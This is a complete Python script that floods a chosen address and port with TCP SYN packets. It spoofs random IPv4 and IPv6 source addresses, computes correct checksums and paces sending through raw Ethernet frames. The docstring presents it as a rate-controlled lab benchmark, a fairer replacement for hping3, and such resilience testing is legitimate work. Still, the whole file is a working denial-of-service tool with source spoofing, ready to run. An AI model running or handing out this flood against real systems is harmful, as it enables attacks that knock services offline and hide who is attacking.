#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A SYN flood from random sources, at a rate that is kept, over IPv4 or IPv6 (hping3 speaks IPv4 only).

usage: synflood.py [--rate N] [--seconds N] [--frames N] DEVICE ADDRESS PORT

What is compared has to be offered the same. hping3 sends as fast as it can, or paces itself by
signals, of which some get lost as soon as the CPU is shared; here what is late is made up for, up
to 50 ms of it. Sends ready-made Ethernet frames, round and round, each with its own source address,
port and sequence number and right checksums. Ends after --seconds or at SIGTERM, and prints
how many were sent in how many seconds. It has to run on the subnet of ADDRESS.
"""
import argparse
import ipaddress
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import time

LATE = 0.05
BATCH = 64  # frames between two looks at the clock

# Within the documentation prefix (RFC 3849), off the lab's own subnet (2001:db8::/64).
SOURCES6 = ipaddress.ip_address("2001:db8:f00d::").packed[:6]


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def source4():
    """A random address that a router would let pass: of 1.0.0.0/8 to 126.0.0.0/8."""
    while True:
        address = os.urandom(4)
        if 1 <= address[0] <= 126 and address[0] != 10:
            return address


def syn(src, dst, port, mss, window):
    sport, seq = struct.unpack("!HI", os.urandom(6))
    options = struct.pack("!BBH", 2, 4, mss) + b"\x04\x02\x01\x01"  # MSS, SACK permitted
    tcp = struct.pack("!HHIIBBHHH", sport or 1, port, seq, 0, 7 << 4, 0x02, window, 0, 0) + options
    pseudo = src + dst + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    return tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def packet4(dst, port):
    src = source4()
    tcp = syn(src, dst, port, 1460, 64240)
    ip = struct.pack("!BBH2sHBBH", 0x45, 0, 20 + len(tcp), os.urandom(2), 0, 64, socket.IPPROTO_TCP, 0)
    return ip[:10] + struct.pack("!H", checksum(ip + src + dst)) + src + dst + tcp


def packet6(dst, port):
    src = SOURCES6 + os.urandom(10)
    tcp = syn(src, dst, port, 1440, 64800)
    return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + src + dst + tcp


def neighbour(device, address):
    """The link-layer address of ADDRESS, as the kernel has it after a ping."""
    subprocess.run(["ping", "-c", "1", "-W", "2", str(address)], stdout=subprocess.DEVNULL, check=False)
    text = subprocess.run(["ip", "neighbour", "show", str(address), "dev", device],
                          capture_output=True, text=True, check=True).stdout
    found = re.search(r"lladdr (\S+)", text)
    if not found:
        sys.exit("synflood: %s does not answer on %s" % (address, device))
    return bytes.fromhex(found[1].replace(":", ""))


def flood(out, frames, rate, seconds):
    """Returns how many frames were sent, and in how many seconds."""
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    begin = now = time.monotonic()
    sent = tried = forgiven = 0
    while not ended and now - begin < seconds:
        due = tried + BATCH
        if rate is not None:
            due = int((now - begin) * rate) - forgiven
            if due - tried > rate * LATE:
                forgiven += due - tried - int(rate * LATE)
                due = tried + int(rate * LATE)
        while tried < due:
            try:
                out.send(frames[tried % len(frames)])
                sent += 1
            except OSError:  # the device's queue is full
                pass
            tried += 1
        if rate is not None:
            time.sleep(0.001)
        now = time.monotonic()
    return sent, now - begin


def main():
    parser = argparse.ArgumentParser(description="SYN flood from random sources")
    parser.add_argument("--rate", type=float, help="SYNs a second (default: all that it can)")
    parser.add_argument("--seconds", type=float, default=10, help="stop after (default 10)")
    parser.add_argument("--frames", type=int, default=16384, help="different SYNs (default 16384)")
    parser.add_argument("device")
    parser.add_argument("address", type=ipaddress.ip_address)
    parser.add_argument("port", type=int)
    args = parser.parse_args()

    dst_mac = neighbour(args.device, args.address)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((args.device, 0))
    src_mac = out.getsockname()[4]
    ethertype, packet = (b"\x08\x00", packet4) if args.address.version == 4 else (b"\x86\xdd", packet6)
    head = dst_mac + src_mac + ethertype
    frames = [head + packet(args.address.packed, args.port) for _ in range(args.frames)]
    print("flooding", flush=True)
    print("sent %d SYNs in %.3f s" % flood(out, frames, args.rate, args.seconds), flush=True)


if __name__ == "__main__":
    main()
